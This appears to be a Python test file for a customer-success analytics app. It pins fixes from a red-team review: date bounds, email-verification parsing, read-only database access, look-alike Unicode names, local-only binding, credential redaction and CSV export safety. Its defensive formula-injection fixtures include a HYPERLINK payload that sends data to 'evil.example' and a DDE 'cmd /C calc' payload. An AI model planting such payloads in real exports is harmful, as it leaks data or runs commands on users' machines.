"""Issue 18: levers and leaks found by a red-team pass, each pinned by a test that failed before.

Grouped by point: the as-of date limited to the data, ... (one test per finding).
"""

from __future__ import annotations

import datetime as dt
import shutil

import pandas as pd
import pytest
import sqlalchemy as sa

from insight_engine.access import email_verified, exposed_without_sign_in
from insight_engine.book.book_key import sql_place
from insight_engine.book.loader import load_folder, load_sql, source_engine, write_sql
from insight_engine.errors import DataLoadError, SourceUnavailableError
from insight_engine.log.store import InsightStore, StoreUnavailableError
from insight_engine.outputs.export import inert_markdown
from insight_engine.source.uploads import merge_uploads
from tests.fixtures import AS_OF, book_dir
from tests.helpers import PAGES, open_app

# --- 7. The as-of date is limited to the usage's dates ----------------------------------------


@pytest.mark.parametrize(
    ("book", "as_of", "refused"),
    [
        ("full", "2035-12-31", True),  # far after the data: every week would read as zero
        ("full", "2020-01-01", True),  # before the first row: nothing to see
        ("events_after_usage", "2026-11-13", True),  # a day after its last note
        ("full", None, False),  # blank: the last date with usage
        ("snapshot", None, False),  # a one-day snapshot: its only day
        ("events_users", None, False),  # usage from an event log
        ("events_after_usage", None, False),  # notes run past usage: the range reaches them
    ],
)
def test_as_of_outside_the_data_is_refused_with_the_range(book, as_of, refused):
    today = AS_OF + pd.Timedelta(days=30)
    if refused:
        with pytest.raises(
            DataLoadError, match=r"outside this book's data \(\d{1,2} \w{3} \d{4} to"
        ):
            load_folder(book_dir(book), as_of=as_of, today=today)
        return
    bk = load_folder(book_dir(book), as_of=as_of, today=today)
    first, last = bk.date_range
    assert first is not None and last is not None and first <= bk.as_of <= last
    # both ends of the range are accepted
    assert load_folder(book_dir(book), as_of=first, today=today).as_of == first
    assert load_folder(book_dir(book), as_of=last, today=today).as_of == last


def test_as_of_range_holds_for_a_database_source(tmp_path):
    url = f"sqlite:///{tmp_path / 'book.db'}"
    write_sql(book_dir("full"), url)
    bk = load_sql(url, today=AS_OF + pd.Timedelta(days=30))
    first, last = bk.date_range
    assert first < bk.as_of <= last
    with pytest.raises(DataLoadError, match="outside this book's data"):
        load_sql(url, as_of=last + pd.Timedelta(days=1), today=AS_OF + pd.Timedelta(days=30))


def test_an_as_of_date_outside_the_data_falls_back_in_the_app_with_a_notice():
    # 2035-12-31 crashed This week (KeyError 'health_change_4w') and cost a full recompute
    at = open_app(  # the first page is This week
        session={
            "source": {"kind": "folder", "path": str(book_dir("full"))},
            "as_of_override": dt.date(2035, 12, 31),
        },
    )
    assert at.session_state["as_of_override"] is None
    toasts = " ".join(t.value for t in at.toast)
    assert "outside this book's data" in toasts
    _first, last = at.session_state["date_range"][next(iter(at.session_state["date_range"]))]
    assert last.date() < dt.date(2035, 12, 31)


# --- 4. Only a true email_verified claim is trusted -------------------------------------------


@pytest.mark.parametrize(
    ("claims", "verified"),
    [
        ({"email_verified": True}, True),
        ({"email_verified": "true"}, True),
        ({"email_verified": "True"}, True),
        ({"email_verified": 1}, True),
        ({"email_verified": False}, False),
        ({"email_verified": "false"}, False),  # the string a provider sent: it got in before
        ({"email_verified": "False"}, False),
        ({"email_verified": "0"}, False),
        ({"email_verified": ""}, False),
        ({"email_verified": None}, False),
        ({"email_verified": "no"}, False),
        ({}, True),  # a provider that sends no claim verifies addresses itself (Entra)
    ],
)
def test_email_verified_accepts_only_a_true_value(claims, verified):
    assert email_verified(claims) is verified


# --- 9. A SQLite source is read, never created or written ---------------------------------------


def test_a_sqlite_url_to_a_missing_file_creates_nothing(tmp_path):
    target = tmp_path / "nowhere" / "made-up.db"
    tmp_target = tmp_path / "made-up.db"
    for path in (target, tmp_target):
        with pytest.raises(SourceUnavailableError, match=f"There is no SQLite file at {path}"):
            load_sql(f"sqlite:///{path}")
        assert not path.exists()
    with pytest.raises(SourceUnavailableError, match="must name a database file"):
        load_sql("sqlite://")


def test_a_sqlite_source_is_opened_read_only(tmp_path):
    path = tmp_path / "book.db"
    write_sql(book_dir("minimal"), f"sqlite:///{path}")
    engine = source_engine(f"sqlite:///{path}")
    with engine.connect() as conn, pytest.raises(sa.exc.OperationalError, match="readonly"):
        conn.execute(sa.text("create table x (a int)"))
    bk = load_sql(f"sqlite:///{path}", today=AS_OF + pd.Timedelta(days=30))
    assert len(bk.accounts) > 0


# --- 12. Names that deceive are normalised on load, with a warning naming each row ----------------


def test_invisible_and_look_alike_characters_are_removed_on_load_and_reported():
    bk = load_folder(book_dir("deceptive_names"), today=AS_OF + pd.Timedelta(days=30))
    acc = bk.accounts.set_index("account_id")
    assert acc.at["HD-01", "account_name"] == "Invoice fdp.exe"  # the override is gone
    assert acc.at["HD-03", "account_name"] == "Cedar Outfitters"  # full-width letters: NFKC
    assert "HD-06" in acc.index  # the word joiner in the id is gone
    # the zero-width space no longer moves HD-02 out of Mara Quinn's book
    assert set(acc.index[acc["csm"] == "Mara Quinn"]) >= {"HD-01", "HD-02", "HD-05"}
    assert bk.csms == sorted(set(bk.csms))
    assert "Mara\u200b Quinn" not in bk.csms
    # usage keyed "HD\u200b-03" is HD-03's, not an unknown account
    assert bk.weekly.account_frame("HD-03").notna().any().any()
    assert "table usage" not in bk.report.rejected and not len(bk.report.by_severity("error"))
    found = {
        (p.row, p.column)
        for p in bk.report.by_severity("warning")
        if "invisible or look-alike" in p.problem
    }
    # each changed cell is named by its row as a spreadsheet shows it (header = row 1)
    assert {(2, "account_name"), (3, "csm"), (4, "account_name"), (7, "account_id")} <= found
    shown = {
        p.value for p in bk.report.by_severity("warning") if "invisible or look-alike" in p.problem
    }
    assert "Mara\\u200b Quinn" in shown  # the report spells the invisible character out


@pytest.mark.parametrize(
    ("text", "rendered"),
    [
        (":material/bug_report: Dogwood", "\\:\u2060material/bug\\_report\\: Dogwood"),
        ("Dogwood :skull:", "Dogwood \\:\u2060skull\\:"),
        ("javascript:alert(1)", "javascript\\:alert\\(1\\)"),  # not a shortcode: left alone
        ("Ratio 3:1", "Ratio 3\\:1"),
    ],
)
def test_icon_and_emoji_shortcodes_in_customer_text_stay_text(text, rendered):
    assert inert_markdown(text) == rendered


# --- 3. Local mode answers only on this machine ---------------------------------------------------


@pytest.mark.parametrize(
    ("address", "auth", "exposed"),
    [
        ("127.0.0.1", False, False),
        ("localhost", False, False),
        ("::1", False, False),
        ("[::1]", False, False),
        ("0.0.0.0", False, True),
        ("", False, True),  # Streamlit's default: every interface
        (None, False, True),
        ("::", False, True),
        ("192.168.1.20", False, True),
        ("0.0.0.0", True, False),  # signed in: a network is fine
    ],
)
def test_local_mode_is_refused_beyond_this_machine(address, auth, exposed):
    assert exposed_without_sign_in(address, auth_configured=auth) is exposed


def test_the_app_shows_no_data_when_local_mode_listens_on_every_interface():
    from streamlit import config
    from streamlit.testing.v1 import AppTest

    from tests.conftest import ROOT

    old = config.get_option("server.address")
    config.set_option("server.address", "0.0.0.0")
    try:
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
        at.run()
    finally:
        config.set_option("server.address", old)
    assert not at.exception
    assert "needs sign-in" in at.title[0].value
    assert not at.dataframe and not at.metric
    assert config.get_option("server.address") == old


def test_the_shipped_config_binds_to_this_machine():
    import tomllib

    from tests.conftest import ROOT

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["address"] == "127.0.0.1"


# --- 10. Several processes creating a new log at once ---------------------------------------------


def _open_log(url: str, start: float, results) -> None:
    import time

    from insight_engine.log.store import InsightStore

    time.sleep(max(0.0, start - time.time()))  # all open at the same moment
    try:
        InsightStore(url)
        results.put("ok")
    except Exception as exc:  # the message is the finding
        results.put(f"{type(exc).__name__}: {exc}")


@pytest.mark.slow
def test_six_processes_creating_a_new_log_at_once_all_succeed(log_url):
    import multiprocessing as mp
    import time

    from insight_engine.log.store import InsightStore

    ctx = mp.get_context("spawn")
    results = ctx.Queue()
    start = time.time() + 4  # time for the spawned interpreters to import
    procs = [ctx.Process(target=_open_log, args=(log_url, start, results)) for _ in range(6)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(timeout=120)
    outcomes = [results.get(timeout=5) for _ in procs]
    assert outcomes == ["ok"] * 6, outcomes
    store = InsightStore(log_url, migrate=False)
    with store.engine.connect() as conn:
        versions = conn.execute(sa.text("select version_num from alembic_version")).all()
    assert len(versions) == 1
    assert store.count() == 0


# --- 2. No credential of a database URL is shown -----------------------------------------------


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        (
            "postgresql+psycopg://cs:s3cret@db.internal:5432/cs?password=hunter2&sslmode=require",
            "postgresql://db.internal:5432/cs",
        ),
        ("postgresql://reader@warehouse/cs?options=-csearch_path%3Dx", "postgresql://warehouse/cs"),
        ("snowflake://u:pw@acct/db/schema?warehouse=wh&role=r", "snowflake://acct/db/schema"),
        ("sqlite:////srv/book.db", "sqlite:/srv/book.db"),
        ("sqlite:///file:/srv/book.db?mode=ro&uri=true", "sqlite:/srv/book.db"),
    ],
)
def test_a_database_is_named_without_user_password_or_query_string(url, shown):
    assert sql_place(url) == shown


def test_the_log_and_a_sql_book_name_their_database_without_the_query_string(tmp_path):
    path = tmp_path / "book.db"
    write_sql(book_dir("minimal"), f"sqlite:///{path}")
    bk = load_sql(f"sqlite:///{path}", today=AS_OF + pd.Timedelta(days=30))
    assert bk.source == f"Database sqlite:{path}"
    assert bk.key == f"sql:sqlite:{path}"  # the same book as before the read-only engine
    from tests.conftest import _postgres_url

    url = _postgres_url() + "?password=hunter2&application_name=rudder"
    try:
        store = InsightStore(url)
    except StoreUnavailableError:
        pytest.skip("no PostgreSQL server")
    assert "hunter2" not in store.where and "?" not in store.where


# --- 7. Caches keep at most BOOKS_KEPT books alive ------------------------------------------------


def test_new_as_of_dates_keep_a_bounded_number_of_books_in_memory():
    import gc

    from insight_engine.book.book import Book
    from pages.shared.ui import BOOKS_KEPT

    folder = str(book_dir("full"))
    at = open_app(session={"source": {"kind": "folder", "path": folder}})
    for day in range(1, 11):  # ten different dates, as a user (or a script) could pick
        at.session_state["as_of_override"] = dt.date(2026, 10, 30 - 2 * day)
        at.run()
        assert not at.exception
    gc.collect()
    alive = [o for o in gc.get_objects() if isinstance(o, Book) and folder in o.source]
    # each kept date: the book as read, and the same book with its insight log
    assert len(alive) <= 2 * BOOKS_KEPT, len(alive)


# --- 1. No spreadsheet formula leaves through a grid's own "Download as CSV" ----------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
]
RISKY = ("=", "+", "-", "@", "\t", "\r")


def _formula_book(tmp_path):
    folder = tmp_path / "formula-book"
    shutil.copytree(book_dir("full"), folder)
    acc = pd.read_csv(folder / "accounts.csv", dtype=str, keep_default_na=False)
    for i, formula in enumerate(FORMULAS):
        acc.loc[i, "account_name"] = formula
    acc.to_csv(folder / "accounts.csv", index=False)
    ins = pd.read_csv(folder / "insights.csv", dtype=str, keep_default_na=False)
    ins["one_liner"] = [FORMULAS[i % len(FORMULAS)] for i in range(len(ins))]
    ins.to_csv(folder / "insights.csv", index=False)
    return folder


def _pages_calling(*calls: str) -> list[str]:
    """``file:line`` of every page line (outside the ``ui`` helper module) with one of ``calls``."""
    from tests.conftest import ROOT

    return [
        f"{path.relative_to(ROOT)}:{n}"
        for path in (ROOT / "pages").rglob("*.py")
        if path.name != "ui.py"
        for n, line in enumerate(path.read_text().splitlines(), 1)
        if any(call in line for call in calls)
    ]


def test_pages_show_tables_only_through_the_formula_safe_grid():
    offenders = _pages_calling(".dataframe(", ".data_editor(")
    assert not offenders, f"use ui.grid / ui.editor (formula-safe) instead: {offenders}"


def test_an_editable_table_shows_formulas_inert_and_returns_what_was_typed():
    """ui.editor: formula-like cells carry the invisible marker on screen (the grid's CSV export
    takes cells as displayed); the frame handed back has it off, numbers and blanks untouched."""
    from insight_engine.outputs.export import formula_safe, without_marker

    marker = "\u2060"
    typed = pd.DataFrame(
        {
            "event": [*FORMULAS, "Signed up", None],
            "metric": ["=1+1", "ok", *[None] * (len(FORMULAS))],
            "events": range(len(FORMULAS) + 2),
        }
    )
    shown = formula_safe(typed, marker=marker)
    assert shown["event"].iloc[: len(FORMULAS)].str.startswith(marker).all()
    assert shown.loc[len(FORMULAS), "event"] == "Signed up"
    back = without_marker(shown, marker)
    assert back["event"].tolist()[: len(FORMULAS) + 1] == [*FORMULAS, "Signed up"]
    assert pd.isna(back["event"].iloc[-1])
    assert back["metric"].iloc[0] == "=1+1"
    assert back["events"].tolist() == typed["events"].tolist()


@pytest.mark.parametrize("page", PAGES)
def test_no_displayed_cell_starts_like_a_formula(page, tmp_path):
    folder = _formula_book(tmp_path)
    at = open_app(page, session={"source": {"kind": "folder", "path": str(folder)}})
    shown = 0
    for element in at.dataframe:
        frame = element.value
        for column in frame.columns:
            values = frame[column]
            if values.dtype == object or pd.api.types.is_string_dtype(values):
                text = values.dropna().astype(str)
                shown += int(text.str.contains("HYPERLINK|SUM\\(", regex=True).sum())
                assert not text.str.startswith(RISKY).any(), (page, column, text.head(3).tolist())
    if page == "pages/library/insight_library.py":
        assert shown, "the formula-named accounts or insights are on this page, made safe"


# --- 8. Uploads: one file per name, said; each file read once; uploaded books let go -------------


@pytest.mark.parametrize(
    ("before", "added", "after", "notes"),
    [
        ({}, [("a.csv", b"1")], {"a.csv": b"1"}, []),
        ({}, [("a.csv", b"1"), ("a.csv", b"1")], {"a.csv": b"1"}, []),  # the same copy twice
        (  # two different files of one name from two folders: the last, and a note
            {},
            [("usage.csv", b"old"), ("usage.csv", b"new")],
            {"usage.csv": b"new"},
            ["Two different files named usage.csv"],
        ),
        ({"a.csv": b"1"}, [("a.csv", b"2")], {"a.csv": b"2"}, ["a.csv replaced the file"]),
        ({"a.csv": b"1"}, [("a.csv", b"1")], {"a.csv": b"1"}, []),  # added again unchanged
        ({"a.csv": b"1"}, [("b.csv", b"2")], {"a.csv": b"1", "b.csv": b"2"}, []),
    ],
)
def test_files_of_one_name_are_kept_once_and_the_user_is_told(before, added, after, notes):
    files, said = merge_uploads(before, added)
    assert files == after
    assert len(said) == len(notes)
    for note, start in zip(said, notes, strict=True):
        assert note.startswith(start)


def test_an_uploaded_file_is_read_once_per_content(monkeypatch):
    import pages.shared.ui as ui

    calls = []
    real = ui.read_raw

    def counting(data, name):
        calls.append(name)
        return real(data, name)

    monkeypatch.setattr(ui, "read_raw", counting)
    ui._raw_table.clear()
    data = (book_dir("minimal") / "usage.csv").read_bytes()
    first = ui.raw_table("usage.csv", data)
    again = ui.raw_table("usage.csv", data)  # a widget change reruns the page
    assert again is first and calls == ["usage.csv"]
    ui.raw_table("usage.csv", data + b"HD-01,2026-10-31,tickets_solved,1\n")  # new content
    assert calls == ["usage.csv", "usage.csv"]
    assert ui.UPLOAD_TTL <= 900


def _raw_table_reruns():
    """The upload step's state holding one file, shown by ``ui.raw_table`` on every rerun."""
    import streamlit as st

    import pages.shared.ui as ui

    flow = st.session_state.setdefault("upload_flow", {"files": {}, "choices": {}, "gen": 0})
    if st.session_state.get("next") is not None:  # the user adds a file (replacing its namesake)
        flow["files"] = {**flow["files"], "usage.csv": st.session_state["next"]}
        st.session_state["next"] = None
    st.text(len(ui.raw_table("usage.csv", flow["files"]["usage.csv"]).frame))
    st.session_state["digests"] = sorted(flow.get("digests", {}))


def test_an_uploaded_file_is_hashed_once_when_added_not_on_every_rerun(monkeypatch):
    """Hashing a 185 MB upload cost 0.3-2 s on every widget change: the digest is kept in the
    upload step's state beside the file, for that very file only (tests/test_upload_flow.py
    removes one in the page)."""
    import hashlib

    from streamlit.testing.v1 import AppTest

    import pages.shared.ui as ui

    hashed = []

    class Counting:
        @staticmethod
        def blake2b(data, **kw):
            hashed.append(len(data))
            return hashlib.blake2b(data, **kw)

    monkeypatch.setattr(ui, "hashlib", Counting)
    ui._raw_table.clear()
    data = (book_dir("minimal") / "usage.csv").read_bytes()
    edited = data + b"HD-01,2026-10-31,tickets_solved,1\n"
    at = AppTest.from_function(_raw_table_reruns)
    at.session_state["next"] = data
    for _ in range(3):  # added, then two widget changes
        at.run()
    assert hashed == [len(data)] and at.session_state["digests"] == ["usage.csv"]
    at.session_state["next"] = edited  # the same name added again with other content
    at.run()
    at.run()
    assert hashed == [len(data), len(edited)]
    assert at.text[0].value == str(len(ui.read_raw(edited, "usage.csv").frame))
    assert at.session_state["digests"] == ["usage.csv"] and not at.exception


def test_a_very_long_name_is_cut_in_the_heading_and_whole_on_hover():
    at = open_app(
        "pages/csm/account.py",
        session={"source": {"kind": "folder", "path": str(book_dir("deceptive_names"))}},
        account="HD-05",
    )
    title = at.title[0]
    assert title.value.startswith("Elm Street Bakeries") and title.value.endswith("…")
    assert len(title.value) <= 170  # not 6,000 characters filling the page
    assert "and more" in (title.proto.help or "") and len(title.proto.help) > 5000


def test_the_as_of_date_stays_across_pages_and_clears_with_new_data():
    at = open_app(session={"source": {"kind": "folder", "path": str(book_dir("full"))}})
    at.date_input(key="as_of_override").set_value(dt.date(2026, 10, 15)).run()
    assert "As of 15 Oct 2026" in " ".join(c.value for c in at.caption)
    at.switch_page("pages/manager/team_cadence.py").run()
    at.switch_page("pages/csm/this_week.py").run()
    assert not at.exception
    assert "As of 15 Oct 2026" in " ".join(c.value for c in at.caption)
    assert at.date_input(key="as_of_override").value == dt.date(2026, 10, 15)
    at.session_state["source"] = {"kind": "folder", "path": str(book_dir("minimal"))}
    at.run()
    assert not at.exception
    assert at.date_input(key="as_of_override").value is None  # new data: its own last day
    assert "As of 31 Oct 2026" in " ".join(c.value for c in at.caption)


# --- 13. Load: a chart is converted once, not per rerun and session ----------------------------


def test_pages_draw_charts_only_through_ui_chart():
    """``st.altair_chart`` converts the chart again on every rerun under one process-wide lock
    (most of the Account page's server CPU with 20 sessions); ``ui.chart`` converts it once."""
    offenders = _pages_calling(".altair_chart(", ".vega_lite_chart(")
    assert not offenders, f"use ui.chart (converted once per chart) instead: {offenders}"


def _trend():
    from insight_engine.outputs.chart import health_trend

    weeks = pd.date_range("2026-08-02", periods=12, freq="W-SUN")
    history = pd.DataFrame({"week_end": weeks, "health": [40.0 + 3 * i for i in range(12)]})
    return health_trend(history, red_below=50, green_above=75, account_name="Acme")


def test_a_chart_is_converted_once_and_sent_as_streamlit_would(monkeypatch):
    import altair as alt
    import pyarrow as pa

    import pages.shared.ui as ui

    chart = _trend()
    calls = []
    real = type(chart.chart).to_dict
    monkeypatch.setattr(
        type(chart.chart),
        "to_dict",
        lambda self, *a, **k: (self is chart.chart and calls.append(1)) or real(self, *a, **k),
    )
    first, again = ui.shown_spec(chart), ui.shown_spec(chart)
    assert again is first and len(calls) == 1  # once per chart, however many reruns and sessions
    assert chart.title and len(calls) == 1  # the title and the PNG read the same spec

    engine = chart.spec
    assert set(first["datasets"]) == set(engine["datasets"])
    for name, rows in engine["datasets"].items():
        sent = pa.ipc.open_stream(first["datasets"][name]).read_all().to_pandas()
        assert sent.to_dict("records") == pd.DataFrame.from_records(rows).to_dict("records")
        assert isinstance(rows, list)  # the engine's own spec is left as it was
    # the default theme's fixed 300 px view would stop the chart from taking its column's width;
    # Rudder's own chart settings are kept
    assert "continuousWidth" not in first["config"].get("view", {})
    assert first["config"]["view"]["strokeWidth"] == 0 and first["config"]["axis"]
    assert engine["config"]["view"]["continuousWidth"] == 300
    assert alt.theme.active == "default"  # nothing global was switched to convert it


def test_a_converted_spec_goes_with_its_chart():
    import gc

    import pages.shared.ui as ui

    chart = _trend()
    spec = ui.shown_spec(chart)
    assert any(kept is spec for kept in ui._SHOWN_SPECS.values())
    del chart
    gc.collect()
    # a chart built per rerun (Team cadence) leaves nothing behind
    assert not any(kept is spec for kept in ui._SHOWN_SPECS.values())


def test_the_shared_book_table_and_log_are_never_changed_by_a_page(tmp_path):
    """Kept once for every session (no unpickling per rerun); each caller gets its own view,
    so a page writing into its table leaves the next session's as it was."""
    import pages.shared.ui as ui
    from tests.fixtures import TODAY

    book = load_folder(book_dir("full"), today=TODAY)
    for read in (ui.book_table, ui.data_notes):
        mine, theirs = read(book), read(book)
        assert mine is not theirs
        before = theirs.copy()
        mine["added"] = 1  # a new column
        if len(mine):
            mine.iloc[0, 0] = "changed"  # a cell, in place
        pd.testing.assert_frame_equal(read(book), before)
